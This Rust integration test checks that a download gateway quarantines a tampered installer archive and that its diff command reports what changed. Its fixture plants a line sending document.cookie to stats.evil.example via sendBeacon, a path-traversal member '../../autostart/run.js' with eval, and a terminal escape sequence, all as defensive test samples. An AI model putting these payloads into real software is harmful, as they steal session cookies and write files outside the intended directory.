//! `pinfold quarantine diff` of what is no script: an installer that the vendor changed.

use pinfold_integration_tests::{Answer, Rule, client, gateway, sha256, vendor};

use crate::verified;

/// A zip archive that stores its members.
fn zip(members: &[(&str, &str)]) -> Vec<u8> {
    let (mut bytes, mut directory) = (Vec::new(), Vec::new());
    for (name, data) in members {
        let (at, len) = ((bytes.len() as u32).to_le_bytes(), (data.len() as u32).to_le_bytes());
        let fields = [[0; 12].as_slice(), &len, &len, &(name.len() as u16).to_le_bytes()].concat();
        bytes.extend(
            [b"PK\x03\x04\x14\0".as_slice(), &fields, &[0; 2], name.as_bytes(), data.as_bytes()].concat(),
        );
        directory
            .extend([b"PK\x01\x02\x14\0\x14\0".as_slice(), &fields, &[0; 12], &at, name.as_bytes()].concat());
    }
    let (count, len, at) = (members.len() as u16, directory.len() as u32, bytes.len() as u32);
    let end =
        [&count.to_le_bytes()[..], &count.to_le_bytes(), &len.to_le_bytes(), &at.to_le_bytes(), &[0; 2]];
    [bytes, directory, b"PK\x05\x06\0\0\0\0".to_vec(), end.concat()].concat()
}

#[tokio::test]
async fn a_tampered_installer_is_quarantined_and_what_changed_in_it_is_named() {
    let reviewed = zip(&[("app/main.js", "start();"), ("app/readme.txt", "hello")]);
    let tampered = zip(&[
        ("app/main.js", "start(); navigator.sendBeacon('https://stats.evil.example/c', document.cookie);"),
        ("app/readme.txt", "hello"),
        ("../../autostart/run.js", "eval(x)\u{1b}[2J"),
    ]);
    let vendor =
        vendor().serve("/setup.appx", Answer::typed("application/appx", reviewed.clone())).listen().await;
    let rule = Rule::default().set("recheck", "always").set("substitute", true);
    let gateway =
        gateway().rule(&vendor, rule).pin(vendor.url("/setup.appx"), sha256(&reviewed)).listen().await;
    verified(&client(&gateway).get(vendor.url("/setup.appx")).await, &reviewed);

    vendor.serve("/setup.appx", Answer::typed("application/appx", tampered));
    let reply = client(&gateway).get(vendor.url("/setup.appx")).await;
    let incident = reply.verdict().incident().unwrap().to_owned();
    gateway.terminate().await;
    let found = gateway.command(&["--json", "quarantine", "diff", &incident]).await.success().json();

    assert_eq!(found["change"], "contents");
    let contents = &found["contents"];
    assert_eq!(
        (contents["format"].as_str(), contents["member_counts"]["same"].as_u64()),
        (Some("zip"), Some(1))
    );
    assert_eq!(contents["oddities"][0]["code"], "outside");
    let main = contents["members"]
        .as_array()
        .unwrap()
        .iter()
        .find(|member| member["name"] == "app/main.js")
        .unwrap();
    let does: Vec<_> =
        main["found"]["capabilities"].as_array().unwrap().iter().map(|fact| &fact["capability"]).collect();
    assert!(does.contains(&&"beacon".into()) && does.contains(&&"cookies".into()), "{does:?}");
    assert_eq!(found["hosts"][0]["host"], "stats.evil.example");

    let text = gateway.command(&["quarantine", "diff", &incident]).await.success().text();
    for wanted in [
        "members: 1 added, 1 changed, 0 removed",
        "stats.evil.example",
        "~ app/main.js",
        "sends a beacon",
        "its name leads out of the place where it is unpacked",
    ] {
        assert!(text.contains(wanted), "{wanted}: {text}");
    }
    assert!(!text.contains('\u{1b}'), "{text:?}");
}
